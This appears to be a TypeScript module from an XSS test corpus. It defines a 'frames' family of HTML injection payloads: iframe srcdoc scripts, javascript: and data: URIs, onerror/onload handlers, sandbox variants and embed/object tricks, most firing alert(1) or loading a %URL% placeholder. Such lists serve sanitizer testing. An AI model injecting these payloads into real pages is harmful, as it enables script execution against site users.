import { crossed, family } from "./payload.ts";

/** They run in windows of their own, and call out of them. */
const INNER = [
  "<script>parent.alert(1)</script>",
  "<img src=x: onerror=parent.alert(1)>",
  "<svg onload=parent.alert(1)>",
];
const HOLDERS = [
  "iframe",
  "embed",
  "object",
  "frame",
  "portal",
  "fencedframe",
  "applet",
  "webview",
  "bgsound",
  "layer",
  "ilayer",
];

export const frames = family("frames", {
  fires: [
    ...INNER.map((inner) => `<p>Watch:</p><iframe srcdoc="${inner}"></iframe>`),
    ...INNER.map(
      (inner) => `<iframe width="560" height="315" srcdoc='<p>Player</p>${inner}' allowfullscreen></iframe>`,
    ),
    '<iframe src="javascript:parent.alert(1)"></iframe>',
    '<iframe src=" java\nscript:parent.alert(1)"></iframe>',
    '<iframe onload="alert(1)"></iframe>',
    '<iframe src="about:blank" onload="alert(1)"></iframe>',
    '<object data="x:" onerror="alert(1)">No player</object>',
    '<embed src="x:" onclick="alert(1)">',
    '<video src="x:" onerror="alert(1)"></video>',
    '<audio src="x:" onerror="alert(1)"></audio>',
    '<video><track kind="captions" onerror="alert(1)"></video>',
  ],
  loads: [
    '<iframe src="%URL%"></iframe>',
    '<iframe width="1" height="1" src="%URL%"></iframe>',
    '<object data="%URL%"></object>',
    '<embed src="%URL%" type="text/html">',
    '<video src="%URL%" autoplay muted></video>',
    '<video poster="%URL%"></video>',
    '<audio src="%URL%" preload="auto"></audio>',
    '<video preload="auto"><source src="%URL%" type="video/mp4"></video>',
    "<iframe srcdoc=\"<img src='%URL%'>\"></iframe>",
    '<video controls>No player: <img src="%URL%" alt="A still"></video>',
  ],
  tries: [
    ...crossed(
      HOLDERS,
      ["src", "data", "href"],
      (name, place) => `<${name} ${place}="%URL%" title="A player">Else</${name}>`,
    ),
    ...["allow-scripts", "allow-scripts allow-same-origin", ""].map(
      (sandbox) => `<iframe sandbox="${sandbox}" srcdoc="<script>parent.alert(1)</script>"></iframe>`,
    ),
    '<iframe src="data:text/html,<script>parent.alert(1)</script>"></iframe>',
    '<object data="data:text/html,<script>parent.alert(1)</script>"></object>',
    '<object data="javascript:parent.alert(1)"></object>',
    '<embed src="javascript:parent.alert(1)">',
    '<object classid="clsid:0"><param name="movie" value="javascript:alert(1)"><param name="url" value="%URL%"></object>',
    '<frameset onload="alert(1)"><frame src="javascript:parent.alert(1)"></frameset>',
    '<iframe src="https://player.example/embed/1" csp="script-src *" allow="camera;microphone" credentialless></iframe>',
    '<iframe src="//elsewhere.example/scheme" name="top"></iframe>',
    '<iframe src="/article.html" onload="alert(1)"></iframe>',
  ],
});
